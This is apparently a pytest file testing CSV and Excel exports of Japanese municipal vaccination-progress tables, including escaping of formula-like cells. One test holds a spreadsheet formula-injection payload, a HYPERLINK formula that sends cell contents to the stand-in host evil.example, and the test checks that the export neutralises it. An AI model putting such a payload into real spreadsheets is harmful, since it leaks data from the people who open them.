"""Exports: CSV that Japanese Excel opens as UTF-8 (byte-order mark) and an Excel workbook,
both matching the table."""

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from progress import services
from tests.progress.conftest import typed

pytestmark = pytest.mark.django_db


@pytest.fixture
def filled(table, columns, staff):
    services.save_row(
        staff["神戸市"],
        table,
        typed(columns, "６２．５％", "12,345", "R7.4.1", "いいえ", "窓口", "=1+1"),
        0,
    )
    services.save_row(
        staff["札幌市"], table, typed(columns, "70", "", "2025-05-10", "はい", "Web"), 0
    )
    return table


def test_csv_has_a_bom_and_matches_the_table(login, filled, author):
    response = login(author).get(f"/progress/{filled.pk}/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, sapporo, kobe = rows
    assert header[:4] == ["都道府県", "団体コード", "団体名", "種別"]
    assert header[4] == "3回目接種率（65歳以上）（%）"
    assert header[5] == "接種者数（人）"
    assert sapporo[:3] == ["北海道", "011002", "札幌市"]
    assert kobe[2:][:1] == ["神戸市"]
    assert kobe[4:10] == ["62.5", "12345", "2025-04-01", kobe[7], "窓口", "'=1+1"]
    assert sapporo[5] == ""


def test_xlsx_opens_and_has_numbers_and_dates(login, filled, author):
    response = login(author).get(f"/progress/{filled.pk}/export.xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert sheet.title == "3回目接種の進捗"
    values = list(sheet.iter_rows(values_only=True))
    header, sapporo, kobe = values
    assert header[4] == "3回目接種率（65歳以上）（%）"
    assert sapporo[1] == "011002" and kobe[2] == "神戸市"
    assert kobe[4] == 62.5 and kobe[5] == 12345
    assert kobe[6] in (date(2025, 4, 1), datetime(2025, 4, 1))
    assert sapporo[5] is None
    assert kobe[9] == "'=1+1"


def test_csv_and_xlsx_have_the_same_cells(login, filled, author):
    client = login(author)
    csv_rows = list(
        csv.reader(
            io.StringIO(client.get(f"/progress/{filled.pk}/export.csv").content.decode("utf-8-sig"))
        )
    )
    sheet = load_workbook(
        io.BytesIO(client.get(f"/progress/{filled.pk}/export.xlsx").content)
    ).active
    xlsx_rows = list(sheet.iter_rows(values_only=True))
    assert len(csv_rows) == len(xlsx_rows) == 3
    for csv_row, xlsx_row in zip(csv_rows, xlsx_rows, strict=True):
        assert csv_row[:4] == [str(value) for value in xlsx_row[:4]]
        assert csv_row[-1] == str(xlsx_row[-1])


def test_a_question_written_as_a_formula_stays_text_in_both_exports(login, author, board):
    formula = '=HYPERLINK("http://evil.example/?leak="&E2,"Click")'
    table = services.define_table(
        author, board, title="様式", columns=[{"question": formula, "kind": "text"}]
    )
    client = login(author)
    csv_header = next(
        csv.reader(io.StringIO(client.get(f"/progress/{table.pk}/export.csv").content.decode()))
    )
    sheet = load_workbook(io.BytesIO(client.get(f"/progress/{table.pk}/export.xlsx").content))
    xlsx_header = next(sheet.active.iter_rows(values_only=True))
    assert csv_header[4] == xlsx_header[4] == "'" + formula
    assert sheet.active["E1"].data_type == "s"  # a string, not a formula
